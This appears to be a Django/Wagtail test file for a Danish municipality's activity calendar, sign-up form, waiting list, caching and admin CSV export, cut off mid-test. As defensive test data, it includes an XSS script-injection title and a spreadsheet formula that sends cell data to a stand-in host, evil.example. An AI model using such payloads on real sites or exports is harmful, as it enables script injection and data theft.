"""Activities: the index and its calendar, the activity pages, the sign-up and what the
procesleder does with the sign-ups."""

import csv
import datetime
import io
import json
import threading
import time

import pytest
from django.core import mail
from django.core.management import call_command
from django.db import IntegrityError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from icalendar import Calendar
from wagtail.test.utils import WagtailPageTestCase

from activities.dates import DANISH_TIME, danish_period
from activities.forms import SignUpForm
from activities.models import (
    ActivityIndexPage,
    ActivityPage,
    ActivityType,
    SignUp,
    upcoming_activities,
)
from faxeif.cache import invalidate
from home.models import HomePage
from pages.blocks import BodyBlock
from tests.support.editor_posts import page_edit_data
from tests.support.html import soup, text_of
from tests.support.showcase_activities import (
    activity_index,
    build,
    days_ahead,
    extra_urls,
    publish_activity,
)

UTC = datetime.UTC
HOUR = datetime.timedelta(hours=1)
DAY = datetime.timedelta(days=1)
BUDGET = 12


def at(year, month, day, hour=9, minute=0) -> datetime.datetime:
    return datetime.datetime(year, month, day, hour, minute, tzinfo=DANISH_TIME)


@pytest.fixture
def index(seeded):
    return activity_index()


_slugs = iter(range(1, 10_000))


def add_activity(index, title, start, end=None, **fields) -> ActivityPage:
    """A published activity in `index` (the one activity index) with a slug of its own."""
    assert index.pk == activity_index().pk
    return publish_activity(
        title, f"aktivitet-{next(_slugs)}", start, end=end or start + 6 * HOUR, **fields
    )


@pytest.fixture
def temadag(index):
    return add_activity(
        index,
        "Temadag om samskabelse",
        days_ahead(10),
        activity_type=ActivityType.TEMADAG,
        audience="Alle ledere",
        introduction="En dag om at skabe sammen.",
        signup_enabled=True,
        capacity=2,
    )


@pytest.fixture
def clock(monkeypatch):
    """Set the time the site believes it is."""

    def set_now(moment):
        monkeypatch.setattr(timezone, "now", lambda: moment.astimezone(UTC))

    return set_now


def sign_up(client, activity, **fields):
    data = {
        "name": "Mette Hansen",
        "email": "meha@faxekommune.dk",
        "workplace": "Haslev Bibliotek",
        "comment": "",
        **fields,
    }
    return client.post(activity.signup_url(), data)


def ics(response) -> Calendar:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    return Calendar.from_ical(response.content)


# The calendar files


@pytest.mark.django_db
def test_calendar_has_the_right_times_across_the_change_to_summer_time(client, index, clock):
    clock(at(2026, 3, 1))
    add_activity(index, "Før sommertid", at(2026, 3, 28, 9), at(2026, 3, 28, 15))
    add_activity(index, "Efter sommertid", at(2026, 3, 30, 9), at(2026, 3, 30, 15))

    response = client.get("/aktiviteter/kalender.ics")
    calendar = ics(response)
    assert 'filename="aktiviteter.ics"' in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment")
    assert calendar["VERSION"] == "2.0" and "Faxe i Fællesskab" in calendar["PRODID"]
    events = {event["SUMMARY"]: event for event in calendar.events}
    before, after = events["Før sommertid"], events["Efter sommertid"]
    # 9.00 Danish time is 8.00 UTC in winter time and 7.00 UTC in summer time.
    assert before.start.utcoffset() == HOUR and after.start.utcoffset() == 2 * HOUR
    assert before.start.astimezone(UTC) == datetime.datetime(2026, 3, 28, 8, tzinfo=UTC)
    assert after.start.astimezone(UTC) == datetime.datetime(2026, 3, 30, 7, tzinfo=UTC)
    assert after.end.astimezone(UTC) == datetime.datetime(2026, 3, 30, 13, tzinfo=UTC)
    # The times name Europe/Copenhagen, and the file describes that zone's change itself, so
    # a calendar without its own time zone data gets the same times.
    assert before["DTSTART"].params["TZID"] == "Europe/Copenhagen"
    (zone,) = calendar.timezones
    assert zone.tz_name == "Europe/Copenhagen"
    described = zone.to_tz()
    assert described.utcoffset(datetime.datetime(2026, 3, 28, 9)) == HOUR
    assert described.utcoffset(datetime.datetime(2026, 3, 30, 9)) == 2 * HOUR
    for event in calendar.events:
        for field in ("UID", "DTSTAMP", "SUMMARY", "LOCATION", "DESCRIPTION", "URL"):
            assert event.get(field), field
        assert event["URL"].startswith("http://testserver/aktiviteter/")
        assert event["LOCATION"] == "Rådhuset, Frederiksgade 9, 4690 Haslev"


@pytest.mark.django_db
def test_calendar_uids_stay_the_same_when_an_activity_changes(client, index, temadag):
    seminar = add_activity(index, "Seminar", days_ahead(20), activity_type=ActivityType.SEMINAR)
    first = {
        e["SUMMARY"]: str(e["UID"]) for e in ics(client.get("/aktiviteter/kalender.ics")).events
    }
    assert first == {
        "Temadag om samskabelse": f"activity-{temadag.pk}@faxeifaellesskab.dk",
        "Seminar": f"activity-{seminar.pk}@faxeifaellesskab.dk",
    }

    temadag.title = "Temadag om samskabelse i Haslev"
    temadag.start += HOUR
    temadag.save_revision().publish()
    again = {
        e["SUMMARY"]: str(e["UID"]) for e in ics(client.get("/aktiviteter/kalender.ics")).events
    }
    assert again["Temadag om samskabelse i Haslev"] == first["Temadag om samskabelse"]

    # The activity's own file gives the event the same UID, so importing both makes one event.
    response = client.get(temadag.calendar_url())
    (event,) = ics(response).events
    assert str(event["UID"]) == first["Temadag om samskabelse"]
    assert f'filename="{temadag.slug}.ics"' in response["Content-Disposition"]


@pytest.mark.django_db
def test_calendar_lists_upcoming_activities_only(client, index, temadag):
    add_activity(index, "Sidste års temadag", days_ahead(-365))
    summaries = [e["SUMMARY"] for e in ics(client.get("/aktiviteter/kalender.ics")).events]
    assert summaries == ["Temadag om samskabelse"]


@pytest.mark.django_db
def test_pages_link_to_their_calendar_files(client, temadag):
    index_page = soup(client.get("/aktiviteter/"))
    assert index_page.select_one("link[rel=alternate][type='text/calendar']")["href"] == (
        "/aktiviteter/kalender.ics"
    )
    link = soup(client.get(temadag.url)).select_one(".calendar-link a")
    assert link["href"] == f"{temadag.url}kalender.ics"
    assert link.get_text() == "Læg Temadag om samskabelse i din kalender"


# The activity page


@pytest.mark.parametrize(
    "start,end,expected",
    [
        (at(2017, 10, 10, 9), at(2017, 10, 10, 15), "tirsdag 10. oktober 2017, kl. 9.00-15.00"),
        (at(2026, 3, 28, 8, 30), at(2026, 3, 28, 12), "lørdag 28. marts 2026, kl. 8.30-12.00"),
        (
            at(2017, 10, 10, 9),
            at(2017, 10, 11, 15, 30),
            "tirsdag 10. oktober 2017, kl. 9.00 – onsdag 11. oktober 2017, kl. 15.30",
        ),
        # Stored in UTC, told in Danish time.
        (
            datetime.datetime(2026, 6, 1, 22, tzinfo=UTC),
            datetime.datetime(2026, 6, 2, 6, tzinfo=UTC),
            "tirsdag 2. juni 2026, kl. 0.00-8.00",
        ),
    ],
)
def test_dates_read_as_danes_write_them(start, end, expected):
    assert danish_period(start, end) == expected


@pytest.mark.django_db
def test_activity_page_shows_what_when_where_and_for_whom(client, index):
    activity = add_activity(
        index,
        "LederForum i oktober",
        at(2030, 10, 10, 9),
        at(2030, 10, 10, 15),
        activity_type=ActivityType.LEDERFORUM,
        audience="Alle ledere i Faxe Kommune",
    )
    response = client.get(activity.url)
    assert response.status_code == 200
    assert "activities/activity_page.html" in [t.name for t in response.templates]
    page = soup(response)
    assert page.h1.get_text() == "LederForum i oktober"
    facts = text_of(response, "dl.facts")
    assert "torsdag 10. oktober 2030, kl. 9.00-15.00" in facts
    assert page.select_one("dl.facts time")["datetime"] == "2030-10-10T09:00:00+02:00"
    assert "Rådhuset, Frederiksgade 9, 4690 Haslev" in facts
    assert "Alle ledere i Faxe Kommune" in facts
    assert "LederForum" in text_of(response, ".page-header")
    assert page.select_one(".signup-box") is None, "no sign-up unless the editor turns it on"
    assert page.select_one(".back-link a")["href"] == "/aktiviteter/"


@pytest.mark.django_db
def test_activity_page_describes_the_event_for_search_engines(client, index):
    activity = add_activity(
        index,
        "Workshop </script><script>alert(1)</script> & mere",
        at(2030, 1, 15, 13),
        at(2030, 1, 15, 16),
        activity_type=ActivityType.WORKSHOP,
        introduction="Vi arbejder med prøvehandlinger.",
        audience="Medarbejdere",
    )
    response = client.get(activity.url)
    scripts = soup(response).select("head script[type='application/ld+json']")
    (event,) = [
        data for data in map(json.loads, (s.string for s in scripts)) if data["@type"] == "Event"
    ]
    assert event["@context"] == "https://schema.org"
    assert event["name"] == "Workshop </script><script>alert(1)</script> & mere"
    assert event["startDate"] == "2030-01-15T13:00:00+01:00"
    assert event["endDate"] == "2030-01-15T16:00:00+01:00"
    assert event["location"]["name"] == "Rådhuset, Frederiksgade 9, 4690 Haslev"
    assert event["description"] == "Vi arbejder med prøvehandlinger."
    assert event["url"] == f"http://testserver{activity.url}"
    assert event["audience"]["audienceType"] == "Medarbejdere"
    assert "<script>alert(1)" not in response.content.decode()


@pytest.mark.django_db
def test_activity_page_shows_the_seats_left_and_links_to_the_sign_up(client, temadag):
    page = soup(client.get(temadag.url))
    box = page.select_one(".signup-box")
    assert "Der er 2 ledige pladser ud af 2." in box.get_text()
    link = box.select_one("a")
    assert link.get_text() == "Tilmeld dig Temadag om samskabelse"
    assert link["href"] == f"{temadag.url}tilmelding/"
    assert page.select_one("form[method=post]") is None, "the form has an address of its own"


@pytest.mark.django_db
def test_activity_page_sets_no_cookie_is_cached_and_shows_new_seats_at_once(client, temadag):
    first = client.get(temadag.url)
    assert first["X-Cache"] == "MISS" and not first.cookies
    second = client.get(temadag.url)
    assert second["X-Cache"] == "HIT" and not second.cookies

    assert sign_up(Client(), temadag).status_code == 302
    after = client.get(temadag.url)
    assert after["X-Cache"] == "MISS"
    assert "Der er 1 ledig plads ud af 2." in text_of(after, ".signup-box")

    sign_up(Client(), temadag, email="jens@faxekommune.dk")
    full = text_of(client.get(temadag.url), ".signup-box")
    assert "Aktiviteten er fuld – du kan skrive dig på ventelisten." in full

    # A sign-up the procesleder deletes frees the seat on the page too.
    SignUp.objects.get(email="jens@faxekommune.dk").delete()
    assert "Der er 1 ledig plads ud af 2." in text_of(client.get(temadag.url), ".signup-box")


@pytest.mark.django_db
def test_activity_pages_change_when_the_sign_up_closes_without_anyone_editing(client, index):
    activity = add_activity(
        index,
        "Seminar med kort frist",
        days_ahead(5),
        signup_enabled=True,
        signup_deadline=timezone.now() + datetime.timedelta(seconds=2),
    )
    assert "Tilmeld dig" in text_of(client.get(activity.url), ".signup-box")
    assert client.get(activity.url)["X-Cache"] == "HIT"
    time.sleep(2.5)
    response = client.get(activity.url)
    assert response["X-Cache"] == "MISS"
    assert "Tilmeldingen er lukket." in text_of(response, ".signup-box")


# The sign-up


@pytest.mark.django_db
def test_sign_up_form_lives_on_its_own_address_and_is_never_cached(client, temadag):
    response = client.get(temadag.signup_url())
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    form = soup(response).select_one("form.signup-form")
    assert form["method"] == "post" and form["action"] == temadag.signup_url()
    labels = [label.get_text() for label in form.select("label")]
    assert labels[:4] == ["Navn", "Arbejdsmail", "Arbejdsplads", "Kommentar (valgfri)"]
    privacy = text_of(response, ".privacy")
    assert "til tilmeldingen og til intet andet" in privacy
    assert "Vi sletter din tilmelding 30 dage efter aktiviteten." in privacy
    assert soup(response).select_one("meta[name=robots]")["content"] == "noindex"
    assert client.get(temadag.signup_url())["X-Cache"] == "MISS"


@pytest.mark.django_db
def test_the_sign_up_steps_have_their_own_breadcrumb_after_the_activity(client, temadag):
    for url, step in [(temadag.signup_url(), "Tilmelding"), (temadag.thanks_url(), "Kvittering")]:
        crumbs = soup(client.get(url)).select_one("nav.breadcrumbs")
        assert [li.get_text(strip=True) for li in crumbs.find_all("li")] == [
            "Forside",
            "Aktiviteter",
            "Temadag om samskabelse",
            step,
        ]
        assert crumbs.find_all("a")[-1]["href"] == temadag.url
        assert crumbs.select_one("[aria-current='page']").get_text() == step
    activity = soup(client.get(temadag.url)).select_one("nav.breadcrumbs [aria-current='page']")
    assert activity.get_text() == "Temadag om samskabelse"


@pytest.mark.django_db
def test_sign_ups_take_the_seats_then_go_on_the_waiting_list(client, temadag):
    for n in range(3):
        response = sign_up(client, temadag, email=f"person{n}@faxekommune.dk", name=f"Person {n}")
        assert response.status_code == 302
        assert response["Location"].startswith(f"{temadag.url}tilmelding/tak/?kvittering=")
    statuses = list(temadag.signups.order_by("created", "pk").values_list("status", flat=True))
    assert statuses == ["confirmed", "confirmed", "waiting"]

    thanks = client.get(response["Location"])
    assert "no-store" in thanks["Cache-Control"]
    assert soup(thanks).h1.get_text() == "Du står på ventelisten"
    assert "Vi har sendt en bekræftelse til person2@faxekommune.dk." in text_of(thanks, "main")

    confirmed = client.get(sign_up(client, temadag, email="ny@faxekommune.dk")["Location"])
    assert soup(confirmed).h1.get_text() == "Du står på ventelisten"
    # A receipt cannot be made up.
    forged = client.get(f"{temadag.url}tilmelding/tak/?kvittering=1")
    assert forged.status_code == 200
    assert "Vi har sendt en bekræftelse til" not in text_of(forged, "main")


@pytest.mark.django_db
def test_confirmation_e_mail_says_what_and_when(client, temadag):
    sign_up(client, temadag, email="a@faxekommune.dk")
    sign_up(client, temadag, email="b@faxekommune.dk")
    sign_up(client, temadag, email="c@faxekommune.dk", name="Carl")
    assert [m.to for m in mail.outbox] == [
        ["a@faxekommune.dk"],
        ["b@faxekommune.dk"],
        ["c@faxekommune.dk"],
    ]
    first, waiting = mail.outbox[0], mail.outbox[2]
    assert first.subject == "Tilmelding: Temadag om samskabelse"
    assert first.from_email == "noreply@faxeifaellesskab.dk"
    assert "Du er tilmeldt Temadag om samskabelse." in first.body
    assert f"Tidspunkt: {temadag.when}" in first.body
    assert f"http://testserver{temadag.url}kalender.ics" in first.body
    assert "tbrag@faxekommune.dk" in first.body, "whom to write to for changes"
    assert "vi sletter dem 30 dage efter aktiviteten" in first.body
    assert waiting.subject == "Venteliste: Temadag om samskabelse"
    assert waiting.body.startswith("Hej Carl")
    assert "står på ventelisten" in waiting.body


@pytest.mark.django_db
def test_a_second_sign_up_with_the_same_address_is_refused_politely(client, temadag):
    sign_up(client, temadag, email="meha@faxekommune.dk")
    response = sign_up(client, temadag, email="MeHa@FaxeKommune.dk", name="Mette H.")
    assert response.status_code == 200
    assert "Der er allerede en tilmelding til aktiviteten med den e-mailadresse" in text_of(
        response, ".field--error"
    )
    assert temadag.signups.count() == 1
    assert len(mail.outbox) == 1
    # The same person may sign up for another activity.
    other = add_activity(
        temadag.get_parent().specific, "Workshop", days_ahead(12), signup_enabled=True
    )
    assert sign_up(client, other, email="meha@faxekommune.dk").status_code == 302


@pytest.mark.django_db
def test_the_database_refuses_a_double_sign_up_too(temadag):
    SignUp.objects.create(activity=temadag, name="A", email="a@faxe.dk", workplace="X")
    with pytest.raises(IntegrityError), transaction.atomic():
        SignUp.objects.create(activity=temadag, name="A", email="A@FAXE.DK", workplace="X")


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_two_people_cannot_both_take_the_last_seat(seeded):
    activity = add_activity(
        activity_index(), "Temadag med én plads", days_ahead(10), signup_enabled=True, capacity=1
    )
    result = {}
    if connection.vendor != "postgresql":
        # SQLite has no row locks: it lets one writer in at a time, so the two come in turn.
        for letter in "AB":
            data = {"name": letter, "email": f"{letter}@faxe.dk", "workplace": "X"}
            form = SignUpForm(data, activity=activity)
            assert form.is_valid()
            result[letter] = form.save()
        assert result["A"].status == SignUp.Status.CONFIRMED
        assert result["B"].status == SignUp.Status.WAITING
        return

    def second_person():
        try:
            data = {"name": "B", "email": "b@faxe.dk", "workplace": "X"}
            form = SignUpForm(data, activity=activity)
            assert form.is_valid()
            result["signup"] = form.save()
        finally:
            connection.close()

    second = threading.Thread(target=second_person)
    with transaction.atomic():
        # The first person's sign-up holds the lock on the activity while it counts the seats...
        ActivityPage.objects.select_for_update(of=("self",)).get(pk=activity.pk)
        second.start()
        second.join(timeout=1)
        assert second.is_alive(), "the second sign-up waits for the first"
        SignUp.objects.create(activity=activity, name="A", email="a@faxe.dk", workplace="X")
    # ...and takes the last seat, so the second goes on the waiting list.
    second.join(timeout=10)
    assert result["signup"].status == SignUp.Status.WAITING


@pytest.mark.django_db
def test_invalid_input_shows_danish_errors_and_keeps_what_was_typed(client, temadag):
    response = sign_up(
        client,
        temadag,
        name="Mette Hansen",
        email="ikke-en-adresse",
        workplace="",
        comment="Jeg kommer lidt senere.",
    )
    assert response.status_code == 200
    page = soup(response)
    assert page.title.get_text().startswith("Fejl i tilmeldingen:")
    summary = text_of(response, ".error-summary")
    assert "Arbejdsmail: Skriv en gyldig e-mailadresse, fx navn@faxekommune.dk." in summary
    assert "Arbejdsplads: Skriv din arbejdsplads." in summary
    assert page.select_one(".error-summary a")["href"] == "#id_email"
    email = page.select_one("#id_email")
    assert email["value"] == "ikke-en-adresse"
    assert email["aria-invalid"] == "true"
    assert "id_email_error" in email["aria-describedby"].split()
    assert page.select_one("#id_email_error").get_text() == (
        "Fejl: Skriv en gyldig e-mailadresse, fx navn@faxekommune.dk."
    )
    assert page.select_one("#id_name")["value"] == "Mette Hansen"
    assert page.select_one("#id_comment").get_text().strip() == "Jeg kommer lidt senere."
    assert not temadag.signups.exists() and not mail.outbox


@pytest.mark.django_db
def test_a_filled_in_honeypot_pretends_success_and_saves_nothing(client, temadag):
    form = soup(client.get(temadag.signup_url()))
    trap = form.select_one("#id_website")
    assert trap["tabindex"] == "-1" and trap["autocomplete"] == "off"
    assert trap.find_parent(attrs={"aria-hidden": "true"}) is not None
    assert "visually-hidden" in trap.find_parent("div")["class"]

    response = sign_up(client, temadag, website="https://spam.example/")
    assert response.status_code == 302
    thanks = client.get(response["Location"])
    assert soup(thanks).h1.get_text() == "Tak for din tilmelding"
    assert not SignUp.objects.exists() and not mail.outbox


@pytest.mark.django_db
def test_sign_up_needs_the_csrf_token(temadag):
    browser = Client(enforce_csrf_checks=True)
    data = {"name": "Mette", "email": "m@faxekommune.dk", "workplace": "Haslev"}
    assert browser.post(temadag.signup_url(), data).status_code == 403
    assert not SignUp.objects.exists()

    form = browser.get(temadag.signup_url())
    token = soup(form).select_one("input[name=csrfmiddlewaretoken]")["value"]
    response = browser.post(temadag.signup_url(), {**data, "csrfmiddlewaretoken": token})
    assert response.status_code == 302
    assert SignUp.objects.get().email == "m@faxekommune.dk"


@pytest.mark.django_db
def test_no_sign_up_after_the_deadline_or_when_sign_up_is_off(client, index):
    closed = add_activity(
        index,
        "Lukket temadag",
        days_ahead(5),
        signup_enabled=True,
        signup_deadline=timezone.now() - HOUR,
    )
    assert "Tilmeldingen er lukket." in text_of(client.get(closed.url), ".signup-box")
    response = sign_up(client, closed)
    assert response.status_code == 200
    assert "Tilmeldingen er lukket." in text_of(response, "main")
    assert soup(response).select_one("form.signup-form") is None

    without = add_activity(index, "Åbent seminar", days_ahead(5))
    assert client.get(without.signup_url()).status_code == 404
    assert sign_up(client, without).status_code == 404
    assert not SignUp.objects.exists()


# The index


@pytest.mark.django_db
def test_index_lists_upcoming_soonest_first_then_past_newest_first(client, index):
    add_activity(index, "Om et år", days_ahead(365))
    add_activity(index, "I forgårs", days_ahead(-2))
    add_activity(index, "I næste uge", days_ahead(7))
    add_activity(index, "Sidste år", days_ahead(-365))
    add_activity(index, "I morgen", days_ahead(1))
    page = soup(client.get("/aktiviteter/"))
    groups = {
        section.h2.get_text(): [a.get_text() for a in section.select(".card__title a")]
        for section in page.select("section.activity-group")
    }
    assert groups == {
        "Kommende aktiviteter": ["I morgen", "I næste uge", "Om et år"],
        "Tidligere aktiviteter": ["I forgårs", "Sidste år"],
    }
    assert list(groups) == ["Kommende aktiviteter", "Tidligere aktiviteter"]


@pytest.mark.django_db
def test_an_activity_moves_to_the_past_when_it_ends(client, index):
    now = timezone.now()
    add_activity(index, "Snart slut", now - HOUR, now + datetime.timedelta(seconds=2))
    assert "Kommende aktiviteter" in text_of(client.get("/aktiviteter/"))
    assert client.get("/aktiviteter/")["X-Cache"] == "HIT"
    time.sleep(2.5)
    response = client.get("/aktiviteter/")
    assert response["X-Cache"] == "MISS"
    assert "Tidligere aktiviteter Snart slut" in text_of(response)


@pytest.mark.django_db
def test_index_filters_by_type_through_the_query_string(client, index):
    add_activity(index, "Temadag 1", days_ahead(3), activity_type=ActivityType.TEMADAG)
    add_activity(index, "LederForum 1", days_ahead(4), activity_type=ActivityType.LEDERFORUM)
    add_activity(index, "Akademiet", days_ahead(5), activity_type=ActivityType.FLLA)

    response = client.get("/aktiviteter/?type=lederforum")
    titles = [a.get_text() for a in soup(response).select(".card__title a")]
    assert titles == ["LederForum 1"]
    assert soup(response).title.get_text().startswith("Aktiviteter: LederForum")
    nav = soup(response).select_one("nav.filter-links")
    assert nav["aria-label"] == "Vis aktiviteter af én type"
    links = {a.get_text(): a["href"] for a in nav.select("a")}
    assert links["Alle"] == "/aktiviteter/"
    assert links["Faxe Leder & LæringsAkademi"] == "/aktiviteter/?type=flla"
    assert nav.select_one("[aria-current=page]").get_text() == "LederForum"

    flla = soup(client.get(links["Faxe Leder & LæringsAkademi"]))
    assert [a.get_text() for a in flla.select(".card__title a")] == ["Akademiet"]
    workshops = client.get("/aktiviteter/?type=workshop")
    assert "Der er ingen aktiviteter af typen Workshop." in text_of(workshops, "main")
    # An unknown type is not a listing of this site (as an unknown tag of the stories).
    unknown = client.get("/aktiviteter/?type=<script>")
    assert unknown.status_code == 404
    assert "Siden findes ikke" in text_of(unknown, "h1")


@pytest.mark.django_db
def test_index_is_paginated_with_danish_links(client, index):
    for n in range(23):
        add_activity(
            index, f"Temadag {n:02d}", days_ahead(n + 1), activity_type=ActivityType.TEMADAG
        )
    add_activity(index, "Et seminar", days_ahead(30), activity_type=ActivityType.SEMINAR)

    first = soup(client.get("/aktiviteter/"))
    assert len(first.select(".card")) == 10
    nav = first.select_one("nav.pagination[aria-label='Sider med aktiviteter']")
    assert "Side 1 af 3" in nav.get_text()
    assert nav.select_one("[aria-current=page]").get_text() == "Side 1"
    assert nav.select_one("a[rel=next]").get_text() == "Næste side"
    assert nav.select_one("a[rel=next]")["href"] == "/aktiviteter/?side=2"
    assert nav.select_one("a[rel=prev]") is None

    last = soup(client.get("/aktiviteter/?side=3"))
    assert [a.get_text() for a in last.select(".card__title a")] == [
        "Temadag 20",
        "Temadag 21",
        "Temadag 22",
        "Et seminar",
    ]
    assert last.select_one("a[rel=prev]").get_text() == "Forrige side"
    assert "24 aktiviteter, viser 21-24." in last.select_one(".listing-status").get_text()

    # The type filter carries over to the page links.
    filtered = soup(client.get("/aktiviteter/?type=temadag&side=2"))
    assert filtered.select_one("a[rel=next]")["href"] == "/aktiviteter/?type=temadag&side=3"
    # Pages that do not exist are the site's 404 page (tests/test_listings.py has them all).
    assert client.get("/aktiviteter/?side=4").status_code == 404


@pytest.mark.django_db
def test_index_is_cached_and_renewed_when_an_activity_is_published(client, index):
    client.get("/aktiviteter/")
    assert client.get("/aktiviteter/")["X-Cache"] == "HIT"
    add_activity(index, "Ny workshop", days_ahead(3))
    response = client.get("/aktiviteter/")
    assert response["X-Cache"] == "MISS" and "Ny workshop" in text_of(response)
    assert not response.cookies


@pytest.mark.django_db
def test_other_pages_get_the_next_activities_soonest_first(index):
    add_activity(index, "Om en måned", days_ahead(30))
    add_activity(index, "I går", days_ahead(-1))
    add_activity(index, "I morgen", days_ahead(1))
    add_activity(index, "Om en uge", days_ahead(7))
    add_activity(index, "Kladde", days_ahead(2)).unpublish()
    assert [a.title for a in upcoming_activities()] == ["I morgen", "Om en uge", "Om en måned"]
    assert [a.title for a in upcoming_activities(limit=1)] == ["I morgen"]


def uncached_queries(client, url, page, django_assert_max_num_queries) -> int:
    """Queries to render the page as after publishing it (see tests/test_query_budget.py)."""
    client.get(url)
    invalidate(f"page:{page.pk}")
    with CaptureQueriesContext(connection) as queries, django_assert_max_num_queries(BUDGET):
        response = client.get(url)
    assert response.status_code == 200 and response["X-Cache"] == "MISS"
    return len(queries.captured_queries)


@pytest.mark.django_db
def test_index_queries_stay_within_the_budget_for_1_and_30_activities(
    client, index, django_assert_max_num_queries
):
    def grow(numbers):
        for n in numbers:
            add_activity(
                index, f"Aktivitet {n}", days_ahead(n - 10), introduction="Om aktiviteten."
            )

    grow(range(1))
    with_one = uncached_queries(client, "/aktiviteter/", index, django_assert_max_num_queries)
    grow(range(1, 30))
    assert uncached_queries(client, "/aktiviteter/", index, django_assert_max_num_queries) == (
        with_one
    )
    filtered = "/aktiviteter/?type=temadag&side=2"
    assert uncached_queries(client, filtered, index, django_assert_max_num_queries) == with_one


@pytest.mark.django_db
def test_showcase_pages_render_within_the_budget(
    client, seeded, image, django_assert_max_num_queries
):
    pages = build(image)
    assert set(pages) == {"activity_index", "activity"}
    for page in pages.values():
        saved = type(page).objects.get(pk=page.pk)
        assert {block.block_type for block in saved.body} == set(BodyBlock.base_blocks)
        uncached_queries(client, page.url, page, django_assert_max_num_queries)
    for url in extra_urls(pages).values():  # the sign-up form and its receipt, never cached
        with django_assert_max_num_queries(BUDGET):
            assert client.get(url).status_code == 200


# What the procesleder does with the sign-ups


@pytest.mark.django_db
def test_purge_deletes_only_the_sign_ups_of_activities_that_ended_long_ago(index):
    old = add_activity(index, "Gammel", days_ahead(-40))
    recent = add_activity(index, "Nylig", days_ahead(-20))
    coming = add_activity(index, "Kommende", days_ahead(10))
    for activity in (old, recent, coming):
        SignUp.objects.create(activity=activity, name="A", email="a@faxe.dk", workplace="X")
        SignUp.objects.create(activity=activity, name="B", email="b@faxe.dk", workplace="X")

    out = io.StringIO()
    call_command("purge_signups", stdout=out)
    assert "Deleted 2 sign-ups" in out.getvalue()
    assert set(SignUp.objects.values_list("activity__title", flat=True)) == {"Nylig", "Kommende"}

    call_command("purge_signups", "--days", "10", stdout=out)
    assert set(SignUp.objects.values_list("activity__title", flat=True)) == {"Kommende"}
    assert "Deleted 2 sign-ups of activities that ended more than 10 days ago" in out.getvalue()


@pytest.mark.django_db
def test_procesleder_edits_an_activity_in_the_admin(procesleder_client, client, temadag):
    data = page_edit_data(
        procesleder_client,
        temadag,
        activity_type="flla",
        start="10.10.2030 09:00",
        end="10.10.2030 15:30",
        capacity="25",
        body=[("heading", {"text": "Program", "level": "3"})],
        # A ticked checkbox without a value attribute: the browser posts "on".
        signup_enabled="on",
        **{"action-publish": "action-publish"},
    )
    response = procesleder_client.post(f"/admin/pages/{temadag.pk}/edit/", data)
    assert response.status_code == 302
    saved = ActivityPage.objects.get(pk=temadag.pk)
    assert saved.start == at(2030, 10, 10, 9) and saved.end == at(2030, 10, 10, 15, 30)
    assert saved.capacity == 25 and saved.activity_type == "flla"
    assert [(b.block_type, b.value["text"]) for b in saved.body] == [("heading", "Program")]
    page = text_of(client.get(temadag.url), "main")
    assert "Faxe Leder & LæringsAkademi" in page
    assert "torsdag 10. oktober 2030, kl. 9.00-15.30" in page
    assert "Der er 25 ledige pladser ud af 25." in page


@pytest.mark.django_db
def test_the_admin_refuses_an_activity_that_ends_before_it_starts(procesleder_client, temadag):
    data = page_edit_data(
        procesleder_client, temadag, start="10.10.2030 15:00", end="10.10.2030 09:00"
    )
    response = procesleder_client.post(f"/admin/pages/{temadag.pk}/edit/", data)
    assert response.status_code == 200
    assert "Aktiviteten skal slutte, efter den begynder." in response.content.decode()


@pytest.mark.django_db
def test_procesleder_lists_filters_and_exports_the_sign_ups(procesleder_client, index, temadag):
    other = add_activity(index, "Seminar om ledelse", days_ahead(20), signup_enabled=True)
    for activity, name in ((temadag, "Mette Hansen"), (temadag, "Jens Jensen"), (other, "Ida")):
        sign_up(Client(), activity, name=name, email=f"{name.split()[0].lower()}@faxekommune.dk")
    SignUp.objects.filter(name="Jens Jensen").update(status="waiting")

    menu = procesleder_client.get("/admin/").content.decode()
    assert "Tilmeldinger" in menu
    listing = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}")
    assert listing.status_code == 200
    rows = text_of(listing, "table tbody")
    assert "Mette Hansen" in rows and "Jens Jensen" in rows and "Ida" not in rows

    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
    assert export.status_code == 200
    assert export["Content-Type"].startswith("text/csv")
    assert 'filename="tilmeldinger.csv"' in export["Content-Disposition"]
    content = b"".join(export.streaming_content).decode()
    header, *rows = list(csv.reader(io.StringIO(content)))
    assert header == [
        "Aktivitet",
        "Aktivitetens tidspunkt",
        "Navn",
        "Arbejdsmail",
        "Arbejdsplads",
        "Kommentar",
        "Status",
        "Tilmeldt den",
    ]
    assert {(row[0], row[2], row[6]) for row in rows} == {
        ("Temadag om samskabelse", "Mette Hansen", "Tilmeldt"),
        ("Temadag om samskabelse", "Jens Jensen", "Venteliste"),
    }
    assert rows[0][1] == temadag.when


@pytest.mark.django_db
def test_the_csv_export_never_hands_a_spreadsheet_a_formula(procesleder_client, temadag):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    SignUp.objects.create(
        activity=temadag, name=formula, email="a@faxe.dk", workplace="@SUM(1+1)", comment="-2+3"
    )
    export = procesleder_client.get(f"/admin/tilmeldinger/?activity={temadag.pk}&export=csv")
    content = b"".join(export.streaming_content).decode()
    header, row = list(csv.reader(io.StringIO(content)))
    assert (row[2], row[4], row[5]) == ("'" + formula, "'@SUM(1+1)", "'-2+3")
    assert row[3] == "a@faxe.dk"


@pytest.mark.django_db
def test_procesleder_can_correct_and_delete_but_not_add_sign_ups(procesleder, index, temadag):
    signup = SignUp.objects.create(activity=temadag, name="A", email="a@faxe.dk", workplace="X")
    for action in ("view", "change", "delete"):
        assert procesleder.has_perm(f"activities.{action}_signup")
    assert not procesleder.has_perm("activities.add_signup")
    client = Client()
    client.force_login(procesleder)
    assert client.get(f"/admin/tilmeldinger/edit/{signup.pk}/").status_code == 200
    assert client.get("/admin/tilmeldinger/new/").status_code == 302  # permission denied


@pytest.mark.django_db
def test_visitors_cannot_see_the_sign_ups(client, temadag):
    response = client.get("/admin/tilmeldinger/")
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


# Page type rules


class ActivityPageTypeRulesTests(WagtailPageTestCase):
    def test_activities_live_only_in_the_activity_index(self):
